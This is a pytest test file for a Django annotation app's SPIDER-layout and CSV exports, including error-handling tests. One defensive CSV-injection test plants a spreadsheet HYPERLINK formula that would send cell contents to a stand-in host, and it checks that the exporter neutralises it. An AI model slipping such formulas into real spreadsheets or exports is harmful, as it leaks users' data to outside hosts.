"""SPIDER-layout export (round trip through import_spider) and the CSV table."""

from __future__ import annotations

import csv
import errno
import io
import json
from pathlib import Path

import pytest
from django.core.files.storage import default_storage
from django.core.management import CommandError, call_command

from annotations.actions import get_or_create_project
from annotations.models import ExportJob, LabelClass, Patch, PatchStatus, ReviewAction, Tile
from tests.test_export_hf import add_predictions, review


def patch_table(project) -> dict[str, tuple]:
    """{image_name: (slide, split, label, sha256 of the 25 grid positions)}."""
    sha = dict(Tile.objects.filter(project=project).values_list("id", "sha256"))
    return {p.image_name: (p.slide.name, p.split, p.current_label.name,
                           tuple(sha.get(t) for t in p.grid))
            for p in Patch.objects.filter(project=project).select_related("slide",
                                                                            "current_label")}


def test_round_trip_through_spider_layout(imported_4, users, tmp_path):
    patches = list(Patch.objects.filter(project=imported_4).order_by("id")[:3])
    classes = list(LabelClass.objects.filter(project=imported_4).order_by("index"))
    for patch in patches:
        review(patch, users["reviewer"], ReviewAction.CORRECT,
               next(c for c in classes if c.pk != patch.current_label_id))
    out = tmp_path / "SPIDER-skin"
    stdout = io.StringIO()
    call_command("export_spider", "--project", imported_4.slug, "--out", str(out), "--json",
                 stdout=stdout)
    result = json.loads(stdout.getvalue())
    assert result["rows"] == Patch.objects.filter(project=imported_4).count()
    records = json.loads((out / "metadata.json").read_text(encoding="utf-8"))
    assert [r["image_name"] for r in records] == list(
        Patch.objects.filter(project=imported_4).order_by("id").values_list("image_name",
                                                                            flat=True))
    assert set(records[0]) == {"slide_id", "image_name", "context_info", "class", "split"}
    assert all("2_2" not in r["context_info"] for r in records)

    copy = get_or_create_project("skin-again")
    call_command("import_spider", str(out), project=copy.slug, json=True, stdout=io.StringIO())
    assert patch_table(copy) == patch_table(imported_4)
    assert set(Tile.objects.filter(project=copy).values_list("sha256", flat=True)) == set(
        Tile.objects.filter(project=imported_4).values_list("sha256", flat=True))
    assert set(LabelClass.objects.filter(project=copy).values_list("name", flat=True)) == {
        c.name for c in classes}
    # the reviewed label is the new project's original label
    moved = Patch.objects.get(project=copy, image_name=patches[0].image_name)
    assert moved.original_label.name != patches[0].original_label.name

    job = ExportJob.objects.get(pk=result["job"])
    assert job.kind == ExportJob.Kind.SPIDER and "metadata.json" in job.files
    assert len([f for f in job.files if f.startswith("images/")]) == Tile.objects.filter(
        project=imported_4).count()


def test_spider_export_leaves_excluded_patches_out_and_refuses_a_used_folder(
        imported, users, tmp_path):
    patch = Patch.objects.filter(project=imported).order_by("id").first()
    review(patch, users["reviewer"], ReviewAction.EXCLUDE)
    out = tmp_path / "out"
    call_command("export_spider", "--project", imported.slug, "--out", str(out),
                 stdout=io.StringIO())
    names = {r["image_name"] for r in json.loads((out / "metadata.json").read_text())}
    assert patch.image_name not in names
    assert len(names) == Patch.objects.filter(project=imported).count() - 1
    with pytest.raises(CommandError, match="not an empty folder"):
        call_command("export_spider", "--project", imported.slug, "--out", str(out),
                     stdout=io.StringIO())


@pytest.mark.parametrize("given", ["new", "empty"])
def test_an_unreadable_tile_fails_the_spider_export_naming_it_and_leaves_nothing(
        imported_4, tmp_path, given):
    """A linked dataset edited since its import: the tile of the last patch is gone. The
    error names the patch and the file, and no half-written folder is left (an empty folder
    the user made stays, empty)."""
    patch = (Patch.objects.filter(project=imported_4).select_related("centre_tile")
             .order_by("-id").first())
    default_storage.delete(patch.centre_tile.file)
    # the error names the first patch (in id order) whose 5x5 grid holds the tile
    first = next(p for p in Patch.objects.filter(project=imported_4).order_by("id")
                 if patch.centre_tile_id in p.grid)
    out = tmp_path / "SPIDER-skin"
    if given == "empty":
        out.mkdir()
    with pytest.raises(CommandError, match=(
            f"patch {first.pk} \\({first.image_name}\\): cannot read its tile "
            f"{patch.centre_tile.file}: No such file or directory")):
        call_command("export_spider", "--project", imported_4.slug, "--out", str(out),
                     stdout=io.StringIO())
    assert (list(out.iterdir()) == []) if given == "empty" else not out.exists()
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.FAILED and first.image_name in job.error


def test_a_tile_grown_past_the_limit_fails_the_spider_export(imported_4, tmp_path, settings):
    patch = (Patch.objects.filter(project=imported_4).select_related("centre_tile")
             .order_by("-id").first())
    with default_storage.open(patch.centre_tile.file, "ab") as handle:
        handle.write(b"\0" * settings.SPIDER_MAX_TILE_BYTES)
    out = tmp_path / "SPIDER-skin"
    with pytest.raises(CommandError, match=f"cannot read its tile {patch.centre_tile.file}: "
                                           r"file is \d+ bytes, more than "
                                           f"{settings.SPIDER_MAX_TILE_BYTES}"):
        call_command("export_spider", "--project", imported_4.slug, "--out", str(out),
                     stdout=io.StringIO())
    assert not out.exists()


def test_a_full_disk_fails_the_spider_export_naming_the_file_and_leaves_nothing(
        imported_4, tmp_path, monkeypatch):
    copies = []
    write_bytes = Path.write_bytes

    def fill_up(self, data):
        copies.append(self.name)
        if len(copies) == 30:
            raise OSError(errno.ENOSPC, "No space left on device")
        return write_bytes(self, data)

    monkeypatch.setattr(Path, "write_bytes", fill_up)
    out = tmp_path / "SPIDER-skin"
    with pytest.raises(CommandError, match=r"patch \d+ \(.+\): copying its tile tiles/.+ to "
                                           r"images/.+ failed: No space left on device"):
        call_command("export_spider", "--project", imported_4.slug, "--out", str(out),
                     stdout=io.StringIO())
    assert not out.exists()


def test_csv_lists_every_patch_with_reviewers_and_model(imported, users, tmp_path):
    patches = list(Patch.objects.filter(project=imported).order_by("id"))
    classes = list(LabelClass.objects.filter(project=imported).order_by("index"))
    target = next(c for c in classes if c.pk != patches[0].current_label_id)
    review(patches[0], users["reviewer"], ReviewAction.CORRECT, target)
    review(patches[0], users["admin"], ReviewAction.CORRECT, target)
    review(patches[1], users["reviewer"], ReviewAction.EXCLUDE)
    add_predictions(imported, patches[:2])
    out = tmp_path / "table.csv"
    call_command("export_csv", "--project", imported.slug, "--out", str(out),
                 stdout=io.StringIO())
    with open(out, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(patches)  # excluded patches too: the table shows the review
    assert list(rows[0]) == ["patch_id", "slide_id", "split", "image_name", "original_label",
                             "current_label", "status", "reviewers", "n_reviews", "agreement",
                             "model_version", "model_prediction", "model_confidence",
                             "slide_x", "slide_y"]
    first = rows[0]
    assert int(first["patch_id"]) == patches[0].pk
    assert first["original_label"] == patches[0].original_label.name
    assert first["current_label"] == target.name and first["status"] == "corrected"
    assert first["reviewers"] == "admin;reviewer" and first["agreement"] == "1.0"
    assert first["model_version"] == "head-v1" and float(first["model_confidence"]) == 0.9
    assert first["model_prediction"] == classes[0].name
    assert rows[1]["status"] == PatchStatus.EXCLUDED and rows[1]["reviewers"] == "reviewer"
    assert rows[2]["reviewers"] == "" and rows[2]["model_version"] == ""
    job = ExportJob.objects.get(kind=ExportJob.Kind.CSV)
    assert list(job.files) == ["table.csv"] and job.counts["rows"] == len(patches)


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(imported, tmp_path):
    """CSV injection: names come from the imported dataset, and a cell starting with = (or
    +, -, @) is a formula to Excel or LibreOffice. Such cells get a leading apostrophe."""
    patch = Patch.objects.filter(project=imported).order_by("id").first()
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    Patch.objects.filter(pk=patch.pk).update(image_name=hostile)
    LabelClass.objects.filter(pk=patch.current_label_id).update(name="@SUM(1+1)")
    out = tmp_path / "table.csv"
    call_command("export_csv", "--project", imported.slug, "--out", str(out),
                 stdout=io.StringIO())
    with open(out, encoding="utf-8", newline="") as handle:
        rows = {int(r["patch_id"]): r for r in csv.DictReader(handle)}
    assert rows[patch.pk]["image_name"] == "'" + hostile
    assert rows[patch.pk]["current_label"] == "'@SUM(1+1)"
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows.values() for v in r.values())


def test_a_csv_export_stopped_part_way_leaves_no_file(imported, tmp_path, monkeypatch):
    from annotations.exporting import ExportError, export_csv
    from annotations.lifecycle import JobCancelled

    monkeypatch.setattr("annotations.exporting.table.batched",
                        lambda rows, size: ([row] for row in rows))  # a group per row

    def cancel(done, total, unit):
        if done == 3:
            raise JobCancelled

    out = tmp_path / "table.csv"
    with pytest.raises(JobCancelled):
        export_csv(imported, out, progress=cancel)
    assert not out.exists()

    def fill_up(done, total, unit):
        if done == 3:
            raise OSError(errno.ENOSPC, "No space left on device")

    with pytest.raises(ExportError, match=f"writing {out} failed: No space left on device"):
        export_csv(imported, out, progress=fill_up)
    assert not out.exists()
